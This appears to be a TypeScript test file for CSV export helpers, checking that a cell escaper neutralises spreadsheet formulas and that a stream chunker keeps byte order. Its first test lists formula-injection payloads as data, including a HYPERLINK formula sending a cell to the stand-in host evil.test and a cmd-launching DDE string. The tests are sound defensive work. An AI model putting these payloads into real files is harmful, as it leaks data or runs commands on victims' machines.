import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { chunked, safeCell } from './csv';

describe('safeCell', () => {
  it('puts an apostrophe before text a spreadsheet would run: =, +, -, @, tab, carriage return', () => {
    for (const text of ['=1+1', '+1+HYPERLINK("http://evil.test?"&A1,"x")', "-1+1+cmd|' /C calc'!A0", '-cmd', '@SUM(A1)', '\t=1', '\r=1', '+', '-']) {
      expect(safeCell(text)).toBe(`'${text}`);
    }
  });

  it('leaves other text, numbers the export writes and empty values as they are', () => {
    expect(safeCell('Harborline Freight')).toBe('Harborline Freight');
    expect(safeCell('1+1')).toBe('1+1');
    expect(safeCell(-42)).toBe('-42');
    expect(safeCell(17)).toBe('17');
    expect(safeCell(true)).toBe('true');
    expect(safeCell(null)).toBe('');
    expect(safeCell(undefined)).toBe('');
  });
});

describe('chunked', () => {
  it('passes every byte on, in order, in chunks of at least the size but the last', async () => {
    const rows = Array.from({ length: 1000 }, (_, i) => `row ${i},"x"\r\n`);
    const out: Buffer[] = [];
    await pipeline(Readable.from(rows), chunked(4096), new Writable({ write: (chunk: Buffer, _e, done) => (out.push(chunk), done()) }));
    expect(Buffer.concat(out).toString()).toBe(rows.join(''));
    expect(out.length).toBeLessThan(rows.length / 50);
    for (const chunk of out.slice(0, -1)) expect(chunk.length).toBeGreaterThanOrEqual(4096);
  });

  it('passes a short answer on whole at its end, and nothing for an empty one', async () => {
    const read = async (input: string[]) => {
      const out: Buffer[] = [];
      await pipeline(Readable.from(input), chunked(), new Writable({ write: (chunk: Buffer, _e, done) => (out.push(chunk), done()) }));
      return out;
    };
    expect((await read(['a,b\r\n', '1,2\r\n'])).map(String)).toEqual(['a,b\r\n1,2\r\n']);
    expect(await read([])).toEqual([]);
  });
});
